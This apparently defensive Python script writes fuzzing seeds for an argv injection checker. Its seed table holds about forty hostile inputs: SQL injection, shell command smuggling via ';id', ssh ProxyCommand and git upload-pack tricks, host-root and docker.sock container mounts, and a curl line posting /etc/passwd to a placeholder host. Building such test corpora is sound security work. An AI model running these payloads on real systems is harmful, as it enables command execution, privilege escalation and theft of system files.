#!/usr/bin/env python3
"""Writes the argv seeds of fuzz_shell and diff_shell
(tests/fuzz/seeds/fuzz_shell/argv-*): one argv per program family the
argv check reads (database clients, interpreters' code, env -S, ssh and
git options, containers, wrappers whose last element is an option's
value ...), laid out as both targets read it: 7 control bytes, then the
elements separated by newlines. The user's input is the marked part of
one element ([[...]]): data[1] is where it starts, data[2] its length
less one; data[0] = 3 (one input, the line split into an argv: diff_shell
reads (data[0] / 3) % 2) or 81 (the same, the array NULL-terminated for
fuzz_shell). Run from the repository's root: python3
tests/fuzz/gen_shell_seeds.py."""
import os

SEEDS = {
    "psql-c": ["psql", "-d", "app", "-c", "select * from t where name = '[[x' or '1'='1]]'"],
    "psql-bang": ["psql", "-c", "\\! ls [[/srv/x;id]]"],
    "psql-copy": ["psql", "-c", "\\copy (select 1) to program '[[id]]'"],
    "mysql-e": ["mysql", "-u", "app", "-e", "select * from t where id = [[1; drop table t]]"],
    "mysql-system": ["mysql", "--execute", "[[system id]]"],
    "sqlite3": ["sqlite3", "/srv/app.db", "select * from t where name = '[[x'||edit('','id')||']]'"],
    "sqlite3-dot": ["sqlite3", "/srv/app.db", "[[.shell id]]"],
    "python-c": ["python3", "-c", "import os; os.system('ls [[/srv/x;id]]')"],
    "python-sub": ["python3", "-c", "import subprocess; subprocess.run('ls [[x;id]]', shell=True)"],
    "perl-e": ["perl", "-e", "print '[[x'; system 'id'; ']]'"],
    "node-e": ["node", "-e", "require('child_process').execSync('ls [[x;id]]')"],
    "ruby-e": ["ruby", "-e", "puts \"[[#{`id`}]]\""],
    "php-r": ["php", "-r", "echo '[[x'; system('id'); ']]';"],
    "env-S": ["env", "-S", "sh -c 'ls [[x;id]]'"],
    "env-S2": ["env", "-iS", "python3 -c \"print('[[x')\\_;__import__('os').system('id');('y]]')\""],
    "ssh-o": ["ssh", "-o", "[[ProxyCommand=sh -c id]]", "host", "ls"],
    "ssh-cmd": ["ssh", "-p", "22", "deploy@host", "ls", "[[x;id]]"],
    "scp-o": ["scp", "-o", "UserKnownHostsFile=[[/tmp/k]]", "a", "host:b"],
    "git-c": ["git", "-c", "[[core.sshCommand=id]]", "clone", "ssh://h/r", "dir"],
    "git-upload": ["git", "clone", "--upload-pack=[[touch /tmp/p]]", "ssh://h/r"],
    "docker-v": ["docker", "run", "--rm", "-v", "[[/etc]]:/data", "alpine:3", "ls", "/data"],
    "docker-volume": ["docker", "run", "--volume=[[../../]]:/data:ro", "alpine:3"],
    "podman-mount": ["podman", "run", "--mount", "type=bind,source=[[/var/run/docker.sock]],target=/d", "alpine:3"],
    "docker-exec": ["docker", "exec", "-u", "www", "web", "sh", "-c", "ls [[x;id]]"],
    "docker-exec-cmd": ["docker", "exec", "web", "[[/tmp/x.sh]]"],
    "kubectl-dd": ["kubectl", "-n", "prod", "exec", "api-0", "-c", "app", "--", "sh", "-c", "ls [[x;id]]"],
    "kubectl-old": ["kubectl", "exec", "api-0", "sh", "-c", "ls [[x;id]]"],
    "kubectl-run": ["kubectl", "run", "tmp", "--image=alpine", "--rm", "-i", "--", "sh", "-c", "ls [[x;id]]"],
    "sudo-u": ["sudo", "-u", "[[root]]"],
    "env-u": ["env", "-u", "[[HOME]]"],
    "timeout-s": ["timeout", "-s", "[[KILL]]"],
    "find-exec": ["find", "/srv", "-name", "*.log", "-exec", "sh", "-c", "gzip [[x;id]]", ";"],
    "watch-x": ["watch", "-n", "5", "-x", "sh", "-c", "ls [[x;id]]"],
    "curl-d": ["curl", "-s", "-d", "[[@/etc/passwd]]", "https://x/"],
    "sed-e": ["sed", "-e", "s/a/[[b/;e id;s/c]]/", "f.txt"],
    "awk": ["gawk", "{ print \"[[x\"; system(\"id\"); print \"]]\" }", "f.txt"],
    "vim-c": ["vim", "-c", "e [[/srv/x|!id]]", "f.txt"],
    "rsync-e": ["rsync", "-e", "ssh -p [[22 -oProxyCommand=id]]", "a", "h:b"],
}


def seed(argv, control0):
    line = "\n".join(argv)
    a = line.index("[[")
    line = line.replace("[[", "", 1)
    b = line.index("]]")
    line = line.replace("]]", "", 1)
    n = b - a
    assert 0 < n <= 249 and a < 256 and a < len(line.encode())
    head = bytes([control0, a, n - 1, a, n - 1, a, n - 1])
    return head + line.encode()


def main():
    out = "tests/fuzz/seeds/fuzz_shell"
    for name, argv in SEEDS.items():
        with open(os.path.join(out, "argv-" + name), "wb") as f:
            f.write(seed(argv, 3 if len(argv) % 2 else 81))


if __name__ == "__main__":
    main()
